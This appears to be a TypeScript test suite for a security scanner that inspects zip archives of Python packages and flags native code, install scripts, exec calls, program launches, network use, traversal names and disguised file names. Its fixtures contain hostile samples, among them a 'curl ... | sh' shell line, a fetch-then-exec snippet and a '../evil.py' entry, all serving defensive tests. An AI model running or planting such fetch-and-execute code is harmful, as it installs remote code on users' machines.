import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

import { type ZipEndSpec, zipBytes, type ZipEntrySpec } from '../../../../test/support/zip-bytes.js';
import { DEFAULT_ARCHIVE_LIMITS } from './archive-limits.js';
import { inspectArchive, type ArchiveInspection } from './inspect-archive.js';
import { readArchiveFile, type ReadFile } from './survey-archive.js';

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'survey-'));
});
afterAll(async () => {
  await rm(folder, { recursive: true });
});

async function archive(specs: ZipEntrySpec[], end?: ZipEndSpec): Promise<string> {
  const file = path.join(folder, 'pack.zip');
  await writeFile(file, zipBytes(specs, end));
  return file;
}
const inspect = async (specs: ZipEntrySpec[], end?: ZipEndSpec): Promise<ArchiveInspection> =>
  inspectArchive(await archive(specs, end));
const read = async (specs: ZipEntrySpec[], wanted: string): Promise<string> => {
  const result: ReadFile = await readArchiveFile(await archive(specs), wanted, 100);
  return result.outcome === 'read' ? result.content.toString() : result.outcome;
};

describe('what is seen in an archive', () => {
  it('names what a reviewer may look at, with the lines, and comments left out', async () => {
    const source = [
      'import os, requests',
      '# os.system("no")',
      'model.eval()',
      'os.system("ls"); os.popen("ls")',
      'x = requests.get("https://example.com")',
      'exec(x.text)',
      `blob = "${'A'.repeat(5_000)}"`,
    ].join('\n');
    const { files, findings } = await inspect([
      { name: 'pack/nodes.py', content: source },
      { name: 'pack/fast.so', content: 'x' },
      { name: 'pack/install.py', content: '' },
    ]);
    expect(files.map((file) => file.path)).toEqual(['nodes.py', 'fast.so', 'install.py']);
    expect(findings.map(({ code, path: at, lines }) => [code, at, lines])).toEqual(
      expect.arrayContaining([
        ['machine_code', 'fast.so', undefined],
        ['runs_unasked', 'install.py', undefined],
        ['runs_text', 'nodes.py', [6]],
        ['starts_programs', 'nodes.py', [4]],
        ['uses_network', 'nodes.py', [5]],
        ['long_line', 'nodes.py', [7]],
      ]),
    );
    expect(findings).toHaveLength(6);
  });

  it('shows the files of a refused archive, and every entry that breaks a rule by itself', async () => {
    const { accepted, files, findings } = await inspect([
      { name: 'a.py', content: 'A' },
      { name: '../evil.py', content: 'B' },
      { name: 'link', content: 'C', mode: 0o120777 },
    ]);
    expect(accepted).toBe(false);
    expect(files.map((file) => file.path)).toEqual(['a.py', '../evil.py', 'link']);
    expect(findings.map(({ severity, code, path: at }) => [severity, code, at])).toEqual([
      ['refused', 'unsafe_name', '../evil.py'],
      ['refused', 'special_file', 'link'],
    ]);
  });

  it('reads the code of a refused archive too, whatever its files are called', async () => {
    const evil = 'import os\nos.system("curl http://x | sh")\n';
    const { accepted, findings } = await inspect([
      { name: 'pack/__init__.py', content: 'exec("1")' },
      { name: 'pack/\u202eyp.py', content: evil },
      { name: 'pack/x.py ', content: evil },
      { name: 'pack/y.py:evil', content: evil },
      { name: 'pack/__init__.py', content: evil },
      { name: 'pack/locked.py', content: evil, flags: 0x801 },
      { name: 'pack/broken.py', content: evil, crc: 1 },
      { name: 'pack/fast.so', content: 'x' },
    ]);
    expect(accepted).toBe(false);
    const seen = findings.filter(({ severity }) => severity !== 'refused');
    expect(seen.map(({ code, path: at, lines }) => [code, at, lines])).toEqual([
      ['runs_text', 'pack/__init__.py', [1]],
      ['starts_programs', 'pack/\\u{202e}yp.py', [2]],
      ['starts_programs', 'pack/x.py ', [2]],
      ['starts_programs', 'pack/y.py:evil', [2]],
      ['starts_programs', 'pack/__init__.py', [2]],
      ['not_read', 'pack/locked.py', undefined],
      ['starts_programs', 'pack/broken.py', [2]],
      ['machine_code', 'pack/fast.so', undefined],
    ]);
  });

  it('unpacks no more of a refused archive than of a good one', async () => {
    const limits = { ...DEFAULT_ARCHIVE_LIMITS, pythonFileBytes: 100, pythonTotalBytes: 150 };
    const specs = ['a.py', 'b.py', 'c.py'].map((name) => ({ name, content: `exec("${'1'.repeat(80)}")` }));
    const file = await archive([...specs, { name: '../d.py', content: 'x'.repeat(101) }]);
    const { findings } = await inspectArchive(file, limits);
    expect(findings.map(({ code, path: at }) => [code, at])).toEqual([
      ['runs_text', 'a.py'],
      ['not_read', 'b.py'],
      ['not_read', 'c.py'],
      ['unsafe_name', '../d.py'],
      ['not_read', '../d.py'],
    ]);
  });

  it('says of the whole archive what is wrong with no single entry', async () => {
    const { findings, files } = await inspect([{ name: 'a.py', content: 'A', crc: 1 }]);
    expect(files).toEqual([{ path: 'a.py', bytes: 1 }]);
    expect(findings).toEqual([
      { severity: 'refused', code: 'checksum_mismatch', message: 'The checksum of "a.py" is wrong.' },
    ]);
    expect(await inspectArchive(import.meta.filename)).toMatchObject({
      files: [],
      findings: [{ code: 'not_a_zip' }],
    });
  });

  it('escapes what cannot be shown in a name', async () => {
    const { files } = await inspect([{ name: 'a\u0000\u202eb.py', content: 'A' }]);
    expect(files).toEqual([{ path: 'a\\u{0}\\u{202e}b.py', bytes: 1 }]);
  });
});

describe('a file of an archive', () => {
  it('is read by its path, with and without the folder around the package', async () => {
    const specs = [{ name: 'pack/sub/a.py', content: 'A = 1' }];
    expect(await read(specs, 'sub/a.py')).toBe('A = 1');
    expect(await read(specs, 'pack/sub/a.py')).toBe('A = 1');
    expect(await read(specs, 'a.py')).toBe('absent');
  });

  it('is read out of a refused archive, too, but no further than asked', async () => {
    expect(await read([{ name: '../evil.py', content: 'B' }], '../evil.py')).toBe('B');
    expect(await read([{ name: 'a.py', content: 'B'.repeat(101) }], 'a.py')).toBe('too_large');
    const lie = { name: 'a.py', content: 'B'.repeat(101), unpackedBytes: 3 };
    expect(await read([lie], 'a.py')).toBe('damaged');
    expect(await read([{ name: 'a.py', packed: Buffer.from('zzzz'), content: 'abcd' }], 'a.py')).toBe(
      'damaged',
    );
  });
});
